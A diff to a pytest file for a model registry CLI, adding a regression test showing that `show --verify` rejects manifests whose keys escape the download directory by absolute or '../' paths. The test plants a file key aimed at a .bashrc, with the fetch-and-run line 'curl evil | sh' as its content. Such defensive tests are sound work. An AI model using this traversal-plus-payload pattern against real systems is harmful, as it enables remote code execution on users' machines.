@@ -1,7 +1,8 @@
 """The registry's front ends against a real moto S3 server (and the local dir): the register DVC stage
 (stages/register.py: lineage.json, model card, aliases, no secrets in objects, env/-S overrides and exit codes), the
-`tutorforge registry` commands, and the DVC S3 remote with checkpoint mirroring
-(tutorforge/orchestration/dvc_remote.py). The protocol itself is tested in test_registry.py."""
+`tutorforge registry` commands (`show --verify` refusing a hostile manifest in a real subprocess), and the DVC S3
+remote with checkpoint mirroring (tutorforge/orchestration/dvc_remote.py). The protocol itself is tested in
+test_registry.py."""
 
 from __future__ import annotations
 
@@ -17,6 +18,7 @@ import pytest
 import yaml
 
 from tests.support.registry_data import GATE, make_artifacts, new_bucket, write_params
+from tests.support.registry_hostile import METRICS, plant_version, tree
 from tutorforge.orchestration.dvc_remote import RemoteSpec, mirror_checkpoints, setup_dvc_remote
 from tutorforge.registry.registry import Registry
 from tutorforge.registry.store import LocalStore, S3Store
@@ -168,6 +170,34 @@ def test_cli_list_show_promote_rollback(s3_server, tmp_path):
     assert res.exit_code == 0 and "rollback" in res.output
     res = run("promote", "v1", "--alias", "production")
     assert res.exit_code == 0 and "already at" in res.output
+
+
+@pytest.mark.parametrize("kind", ["absolute", "climbing"])
+def test_cli_show_verify_refuses_hostile_manifest(s3_server, tmp_path, kind):
+    """`tutorforge registry show --verify` (a real process) on a manifest whose key aims outside the download: one
+    error line naming the key, exit 1, and the file it aims at is untouched (before the fix: overwritten, "verified")."""
+    uri = f"s3://{new_bucket(s3_server)}/r"
+    home = tmp_path / "home"
+    home.mkdir()
+    (home / ".bashrc").write_text("export PATH=/usr/bin\n")
+    target = str(home / ".bashrc")  # `show --verify` downloads into a system temp dir: climb to / and down to it
+    key = target if kind == "absolute" else "sft/" + "../" * 40 + target.lstrip("/")
+    plant_version(S3Store(uri, s3_server.url), "tutor", "v1", {"metrics.json": METRICS, key: b"curl evil | sh\n"})
+    before = tree(home)
+    res = subprocess.run(
+        [sys.executable, "-m", "tutorforge.cli", "registry", "show", "v1", "--verify", "--registry", uri]
+        + ["--params", str(write_params(tmp_path))],
+        cwd=home,
+        env={**os.environ, "TUTORFORGE_S3_ENDPOINT_URL": s3_server.url, "COLUMNS": "80"},
+        capture_output=True,
+        text=True,
+        timeout=120,
+    )
+    assert res.returncode == 1, res.stdout + res.stderr
+    lines = res.stderr.strip().splitlines()
+    assert len(lines) == 1 and lines[0].startswith("error:") and repr(key) in lines[0], res.stderr
+    assert "Traceback" not in res.stderr and "verified" not in res.stdout
+    assert tree(home) == before
 
 
 @pytest.mark.slow
